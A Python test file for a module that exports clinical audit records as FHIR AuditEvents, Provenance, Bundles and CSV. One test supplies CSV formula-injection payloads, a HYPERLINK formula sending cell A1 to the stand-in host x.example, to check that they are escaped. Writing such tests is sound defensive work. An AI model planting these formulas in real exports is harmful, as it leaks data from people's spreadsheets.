"""BALP AuditEvents, US Core Provenance and CSV from audit projection rows.

Every produced resource is validated with the FHIR R4B models (fhir.resources'
default models are R5, which reject R4 AuditEvents), and each BALP pattern is
compared field by field with the shipped IHE example of that pattern, read in
place from ``confide.config.data_dir()``. Rows are built by the real
projection functions from synthetic events, so the shapes are the ones
``audit.queries.rows`` returns.
"""
import base64
import csv
import io
import json
import uuid

import pytest
from fhir.resources.R4B.auditevent import AuditEvent
from fhir.resources.R4B.bundle import Bundle
from fhir.resources.R4B.provenance import Provenance

from audit import fhir_export as fx
from audit import projections
from confide import config

BALP_DIR = config.data_dir() / "audit-consent-provenance" / "ihe-balp"
US_CORE_DIR = config.data_dir() / "audit-consent-provenance" / "us-core"
SECRET = "SECRET-CLINICAL-TEXT"


def shipped(name: str) -> dict:
    path = BALP_DIR / f"AuditEvent-ex-{name}.json"
    assert path.exists(), f"shipped BALP example missing: {path}"
    return json.loads(path.read_text())


def codes(codings) -> list[tuple[str, str]]:
    return [(c["system"], c["code"]) for c in codings]


def agent_types(event) -> list[tuple[str, str]]:
    return [codes(a["type"]["coding"])[0] for a in event["agent"]]


def requestors(event) -> dict:
    return {codes(a["type"]["coding"])[0]: a["requestor"] for a in event["agent"]}


def entity_kinds(event) -> list[tuple]:
    return [((e["type"]["system"], e["type"]["code"]),
             (e["role"]["system"], e["role"]["code"]) if "role" in e else None) for e in event["entity"]]


def agent(event, system, code) -> dict:
    found = [a for a in event["agent"] if codes(a["type"]["coding"])[0] == (system, code)]
    assert len(found) == 1, f"expected one agent {code}, got {len(found)}"
    return found[0]


def valid(resource: dict) -> dict:
    model = {"AuditEvent": AuditEvent, "Provenance": Provenance, "Bundle": Bundle}[resource["resourceType"]]
    model.model_validate(resource)
    return resource


def _event(type_, stream, data, position=1, version=0):
    return {"global_position": position, "stream_name": stream, "stream_version": version,
            "event_id": str(uuid.uuid4()), "type": type_, "data": data,
            "recorded_at": "2026-05-01T15:00:00.123456Z"}


def access_row(**overrides) -> dict:
    data = {"decision_id": "dec-1", "requester": {"id": "clin-7", "role": "clinician_same_practice",
                                                  "org": "Riverside Group Practice"},
            "purpose": "treatment", "action": "use", "patient_id": "pat-1", "note_id": "note-1",
            "note_kind": "progress", "originator_id": "clin-2", "decision": "permit_minimum_necessary",
            "rule": "45 CFR 164.506(c)(1); 164.502(b)", "citations": [], "fields_released": ["assessment"],
            "decided_at": "2026-05-01T15:00:00Z", "request_id": None, "content": SECRET}
    data.update(overrides)
    return projections.access_log(_event("AccessDecided", f"accessDecision-{data['decision_id']}", data))


def disclosure_row(type_, **data) -> dict:
    base = {"request_id": "req-1", "patient_id": "pat-1", "purpose": "payment", "note_kind": "progress",
            "requester": {"id": "ins-1", "role": "insurer_health_plan", "org": "Acme Health Plan"},
            "rule": "45 CFR 164.506(c)(1)", "decision": "permit_minimum_necessary",
            "fields_released": ["cpt_code", "session_date"]}
    base.update(data)
    return projections.disclosure_log(_event(type_, "disclosureRequest-req-1", base))


# -- read -------------------------------------------------------------------------------

def test_read_matches_balp_patient_read_example():
    ex, row = shipped("auditBasicReadServer"), access_row()
    [authz, read] = fx.access_log_events(row)
    valid(read)
    assert read["meta"]["profile"] == ex["meta"]["profile"]
    assert (read["type"]["system"], read["type"]["code"]) == (ex["type"]["system"], ex["type"]["code"])
    assert codes(read["subtype"]) == codes(ex["subtype"])
    assert read["action"] == ex["action"] == "R"
    assert read["outcome"] == ex["outcome"] == "0"
    assert agent_types(read) == agent_types(ex)  # client 110152, server 110153, user IRCP, in that order
    assert requestors(read) == requestors(ex)
    assert [("network" in a) for a in read["agent"]] == [("network" in a) for a in ex["agent"]]
    assert codes(read["source"]["type"]) == codes(ex["source"]["type"])
    assert read["source"]["observer"] == agent(read, fx.DCM, "110153")["who"]
    assert entity_kinds(read) == entity_kinds(ex)[:2]  # data (2/4), patient (1/1); no X-Request-Id here
    assert read["entity"][0]["what"]["reference"] == "DocumentReference/note-1"
    assert read["entity"][1]["what"]["reference"] == "Patient/pat-1"
    user = agent(read, fx.PARTICIPATION, "IRCP")
    assert user["who"]["identifier"]["value"] == "clin-7"
    assert codes(user["role"][0]["coding"]) == [(fx.REQUESTER_ROLE_SYSTEM, "clinician_same_practice")]
    assert user["policy"] == ["https://www.ecfr.gov/current/title-45/part-164/section-164.506#p-164.506(c)(1)",
                              "https://www.ecfr.gov/current/title-45/part-164/section-164.502#p-164.502(b)"]
    assert codes(read["purposeOfEvent"][0]["coding"]) == [(fx.ACT_REASON, "TREAT")]
    assert read["recorded"] == "2026-05-01T15:00:00.123Z"


def test_denied_read_is_a_minor_failure_citing_the_rule():
    row = access_row(decision="deny", rule="45 CFR 164.508(a)(2)")
    for event in fx.access_log_events(row):
        valid(event)
        assert event["outcome"] == "4"
        assert "deny" in event["outcomeDesc"] and "164.508(a)(2)" in event["outcomeDesc"]


# -- query ------------------------------------------------------------------------------

def test_query_follows_balp_patient_query():
    """No query example is shipped; compare with the read example for the shared RESTful parts
    and with the published PatientQuery profile (search, action E, entity role 24 with base64 query)."""
    ex, row = shipped("auditBasicReadServer"), access_row(note_id=None)
    [authz, query] = fx.access_log_events(row)
    valid(query)
    assert query["meta"]["profile"] == ["https://profiles.ihe.net/ITI/BALP/StructureDefinition/IHE.BasicAudit.PatientQuery"]
    assert (query["type"]["system"], query["type"]["code"]) == (ex["type"]["system"], ex["type"]["code"])
    assert codes(query["subtype"]) == [("http://hl7.org/fhir/restful-interaction", "search")]
    assert query["action"] == "E"
    assert sorted(agent_types(query)) == sorted(agent_types(ex))
    assert requestors(query) == requestors(ex)
    assert agent_types(query)[:2] == [(fx.DCM, "110153"), (fx.DCM, "110152")]  # client is Source Role ID
    q = query["entity"][0]
    assert ((q["type"]["code"], q["role"]["code"])) == ("2", "24")
    assert base64.b64decode(q["query"]).decode() == q["description"]
    assert "patient=pat-1" in q["description"]
    assert entity_kinds(query)[1] == entity_kinds(ex)[1]  # patient 1/1


# -- disclosure -------------------------------------------------------------------------

def _compare_disclosure(event, ex):
    valid(event)
    assert event["meta"]["profile"] == ex["meta"]["profile"]
    assert (event["type"]["system"], event["type"]["code"]) == (ex["type"]["system"], ex["type"]["code"])
    assert codes(event["subtype"]) == codes(ex["subtype"])
    assert event["action"] == ex["action"] == "R"
    assert [c["system"] for p in event["purposeOfEvent"] for c in p["coding"]] == \
        [c["system"] for p in ex["purposeOfEvent"] for c in p["coding"]]
    assert agent_types(event)[:2] == agent_types(ex)[:2]  # source 110153, recipient 110152
    for a, b in zip(event["agent"][:2], ex["agent"][:2]):
        assert a["requestor"] == b["requestor"] is False and "network" in a and "network" in b
    assert event["source"]["observer"] == agent(event, fx.DCM, "110153")["who"]  # val-audit-source
    assert codes(event["source"]["type"])[0][0] == codes(ex["source"]["type"])[0][0]
    assert entity_kinds(event) == entity_kinds(ex)  # patient 1/1, data 2/3
    assert event["entity"][0]["what"]["reference"] == "Patient/pat-1"
    custodian = agent(event, fx.SNOMED, "159541003")
    assert custodian["who"]["reference"] == "Organization/practice"


def test_disclosure_from_access_decision_matches_balp_source_example():
    ex = shipped("auditPrivacyDisclosure-source2")
    row = access_row(action="disclose", request_id="req-1", purpose="individual_access",
                     requester={"id": "pat-1", "role": "patient", "org": None}, decision="permit",
                     rule="45 CFR 164.524(a)(1)")
    [authz, event] = fx.access_log_events(row)
    _compare_disclosure(event, ex)
    assert event["outcome"] == ex["outcome"] == "0"
    assert codes(event["purposeOfEvent"][0]["coding"]) == codes(ex["purposeOfEvent"][0]["coding"])  # PATRQT
    assert set(agent_types(ex)) <= set(agent_types(event))  # includes the patient as authorizer 429577009
    assert agent(event, fx.SNOMED, "429577009")["who"] == agent(ex, fx.SNOMED, "429577009")["who"] | {
        "reference": "Patient/pat-1"}
    assert event["entity"][1]["what"]["reference"] == "DocumentReference/note-1"


def test_released_and_refused_disclosure_log_rows():
    ex = shipped("auditPrivacyDisclosure-source2")
    released = disclosure_row("DisclosureReleased", decision=None)
    refused = disclosure_row("DisclosureRefused", decision=None, rule="45 CFR 164.508(a)(2)")
    [rel] = fx.disclosure_log_events(released)
    [ref] = fx.disclosure_log_events(refused)
    for event in (rel, ref):
        _compare_disclosure(event, ex)
        assert codes(event["purposeOfEvent"][0]["coding"]) == [(fx.ACT_REASON, "HPAYMT")]
        assert event["entity"][1]["what"]["identifier"]["value"] == "req-1"
    assert rel["outcome"] == "0" and ref["outcome"] == "4"
    assert "164.508(a)(2)" in ref["outcomeDesc"]
    assert agent(rel, fx.DCM, "110152")["who"]["display"] == "Acme Health Plan"
    assert fx.disclosure_log_events(disclosure_row("DisclosureRequested")) == []


def test_accounting_entry_is_a_disclosure():
    ex = shipped("auditPrivacyDisclosure-source2")
    row = projections.accounting(_event("AccountingEntryRecorded", "accounting-pat-1", {
        "entry_id": "e1", "patient_id": "pat-1", "request_id": "req-1", "decision_id": "dec-1",
        "disclosed_at": "2026-05-02T09:00:00Z", "recipient": {"org": "County Court"}, "purpose": "judicial",
        "description": "progress notes 2026-01..2026-04 (session dates, CPT codes)", "rule": "45 CFR 164.512(e)"}))
    [event] = fx.resources_for("accounting", [row])
    _compare_disclosure(event, ex)
    assert event["recorded"] == "2026-05-02T09:00:00.000Z"
    assert codes(event["purposeOfEvent"][0]["coding"]) == [(fx.ACT_REASON, "HLEGAL")]
    assert agent(event, fx.DCM, "110152")["who"]["display"] == "County Court"


# -- authorization decision ----------------------------------------------------------------

@pytest.mark.parametrize("decision,outcome", [("permit", "0"), ("permit_redacted", "0"), ("deny", "4"),
                                              ("hold", "4"), ("discretionary", "4")])
def test_authz_decision_matches_balp_authz_consent_example(decision, outcome):
    ex = shipped("auditAuthZconsent")
    row = access_row(decision=decision, purpose="individual_access")
    [event, _] = fx.access_log_events(row)
    valid(event)
    assert event["meta"]["profile"] == ex["meta"]["profile"]
    assert (event["type"]["system"], event["type"]["code"]) == (ex["type"]["system"], ex["type"]["code"])
    assert codes(event["subtype"]) == codes(ex["subtype"])
    assert event["action"] == ex["action"] == "E"
    assert event["outcome"] == outcome
    assert agent_types(event) == agent_types(ex)  # client app, user, user org, authorization server
    assert requestors(event) == requestors(ex)
    assert [("network" in a) for a in event["agent"]] == [("network" in a) for a in ex["agent"]]
    user, ex_user = agent(event, fx.PARTICIPATION, "IRCP"), agent(ex, fx.PARTICIPATION, "IRCP")
    assert codes(user["purposeOfUse"][0]["coding"]) == codes(ex_user["purposeOfUse"][0]["coding"])  # PATRQT
    assert user["policy"][0].endswith("#p-164.506(c)(1)")
    authserver = agent(event, fx.SECURITY_ROLE, "authserver")
    assert event["source"]["observer"] == authserver["who"]  # val-audit-source
    assert codes(event["source"]["type"]) == codes(ex["source"]["type"])  # 6 Security Server
    assert entity_kinds(event) == entity_kinds(ex)  # patient 1/1, Consent (the rule)
    basis = event["entity"][1]
    assert basis["what"]["identifier"]["value"] == row["rule"]
    assert {"type": "decision", "valueString": decision} in basis["detail"]
    assert decision in event["outcomeDesc"] and row["rule"] in event["outcomeDesc"]


def test_disclosure_log_decided_row_is_an_authz_decision():
    [event] = fx.disclosure_log_events(disclosure_row("DisclosureDecided", decision="deny",
                                                      rule="45 CFR 164.508(a)(2)"))
    valid(event)
    assert event["meta"]["profile"] == shipped("auditAuthZconsent")["meta"]["profile"]
    assert event["outcome"] == "4"
    assert agent(event, fx.ROLE_CLASS, "PROV")["who"]["display"] == "Acme Health Plan"


# -- provenance ----------------------------------------------------------------------------

def _us_core_provenance() -> dict:
    data = json.loads((US_CORE_DIR / "allergyintolerance-provenance-example1.json").read_text())
    return next(e["resource"] for e in data["entry"] if e["resource"]["resourceType"] == "Provenance")


@pytest.mark.parametrize("type_,data,activity,role", [
    ("ProgressNoteDrafted", {"note_id": "note-1", "patient_id": "pat-1", "author_id": "clin-2",
                             "content": {"assessment": SECRET}}, (fx.DATA_OPERATION, "CREATE"), "author"),
    ("ProgressNoteRevised", {"note_id": "note-1", "actor_id": "clin-2"}, (fx.DATA_OPERATION, "UPDATE"), "author"),
    ("ProgressNoteSigned", {"note_id": "note-1", "signer_id": "clin-2"}, (fx.LIFECYCLE, "attest"), "attester"),
    ("ProgressNoteCosigned", {"note_id": "note-1", "cosigner_id": "sup-1"}, (fx.LIFECYCLE, "verify"), "verifier"),
])
def test_provenance_matches_us_core_structure(type_, data, activity, role):
    ex = _us_core_provenance()
    row = projections.note_versions(_event(type_, "progressNote-note-1", data, version=3))
    prov = valid(fx.provenance(row))
    assert prov["meta"]["profile"] == ex["meta"]["profile"]
    assert prov["target"] == [{"reference": "DocumentReference/note-1/_history/3"}]
    assert ex["target"][0]["reference"].count("/_history/") == 1
    assert prov["recorded"] == "2026-05-01T15:00:00.123Z"
    assert codes(prov["activity"]["coding"]) == [activity]
    for ours, theirs in zip(prov["agent"], ex["agent"]):
        assert set(ours) == set(theirs) == {"type", "who", "onBehalfOf"}
        assert [c["system"] for c in ours["type"]["coding"]] == [c["system"] for c in theirs["type"]["coding"]]
        assert ours["who"]["reference"].split("/")[0] == theirs["who"]["reference"].split("/")[0] == "Practitioner"
        assert ours["onBehalfOf"]["reference"].startswith("Organization/")
    assert prov["agent"][0]["type"]["coding"][0]["code"] == role
    assert SECRET not in json.dumps(prov)


# -- bundle, CSV, no content ------------------------------------------------------------------

def test_bundle_of_everything_validates_and_holds_no_content():
    rows = [access_row(), access_row(note_id=None), access_row(action="disclose", request_id="req-1")]
    resources = fx.resources_for("access_log", rows)
    assert len(resources) == 6
    b = valid(fx.bundle(resources, "audit-export"))
    assert b["type"] == "collection" and b["total"] == 6
    assert len({e["fullUrl"] for e in b["entry"]}) == 6
    assert SECRET not in json.dumps(b)
    with pytest.raises(ValueError):
        fx.resources_for("nope", rows)


def test_ids_with_characters_fhir_ids_forbid_become_logical_references():
    event = fx.read_event(access_row(note_id="note_1 v2", patient_id="pat:1"))
    valid(event)
    assert event["entity"][0]["what"]["identifier"] == {"system": fx.NOTE_SYSTEM, "value": "note_1 v2"}
    assert event["entity"][1]["what"]["identifier"]["value"] == "pat:1"


def test_csv_has_a_header_and_one_line_per_row():
    rows = [access_row(), access_row(request_id="req-9", note_id=None)]
    out = io.StringIO()
    assert fx.write_csv("access_log", rows, out) == 2
    parsed = list(csv.reader(io.StringIO(out.getvalue())))
    assert parsed[0] == list(fx.COLUMNS["access_log"])
    assert len(parsed) == 3
    record = dict(zip(parsed[0], parsed[2]))
    assert record["request_id"] == "req-9" and record["note_id"] == ""
    assert SECRET not in out.getvalue()
    empty = io.StringIO()
    assert fx.write_csv("note_versions", [], empty) == 0
    assert empty.getvalue().strip() == ",".join(fx.COLUMNS["note_versions"])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_escapes_cells_a_spreadsheet_would_run_as_a_formula(start):
    evil = start + 'HYPERLINK("http://x.example/?"&A1,"click")'
    out = io.StringIO()
    fx.write_csv("access_log", [{**access_row(rule="45 CFR 164.506(c)(1)"), "requester_id": evil}], out)
    record = dict(zip(*list(csv.reader(io.StringIO(out.getvalue())))))
    assert record["requester_id"] == "'" + evil
    assert record["rule"] == "45 CFR 164.506(c)(1)" and record["global_position"].isdigit()


def test_columns_match_the_projection_functions():
    samples = {
        "access_log": access_row(),
        "disclosure_log": disclosure_row("DisclosureRequested"),
        "accounting": projections.accounting(_event("AccountingEntryRecorded", "accounting-p", {"patient_id": "p"})),
        "note_versions": projections.note_versions(_event("ProgressNoteDrafted", "progressNote-n", {})),
    }
    for name, row in samples.items():
        assert tuple(row) == fx.COLUMNS[name], name


def test_shipped_examples_are_r4_and_readable_in_place():
    examples = sorted(BALP_DIR.glob("AuditEvent-*.json"))
    assert examples, f"no shipped BALP AuditEvent examples under {BALP_DIR}"
    for path in examples:
        AuditEvent.model_validate(json.loads(path.read_text()))
    Provenance.model_validate(_us_core_provenance())


def test_a_disclosure_over_several_notes_names_each_note_and_its_csv_cell_lists_them():
    row = access_row(note_id=None, note_ids=["note-1", "note-2"], request_id="req-9", action="disclose")
    assert row["note_ids"] == ["note-1", "note-2"] and row["note_id"] is None
    disclosure = fx.access_log_events(row)[1]
    assert [e["what"].get("reference") for e in disclosure["entity"][2:]] == [
        "DocumentReference/note-1", "DocumentReference/note-2"]
    assert disclosure["entity"][1]["what"]["identifier"]["value"] == "req-9"  # the request itself
    out = io.StringIO()
    fx.write_csv("access_log", [row], out)
    record = dict(zip(*list(csv.reader(io.StringIO(out.getvalue())))))
    assert record["note_ids"] == "note-1 note-2" and record["note_id"] == ""


def test_a_read_of_one_note_projects_it_as_its_note_ids():
    assert access_row()["note_ids"] == ["note-1"]
    assert access_row(note_id=None)["note_ids"] == []
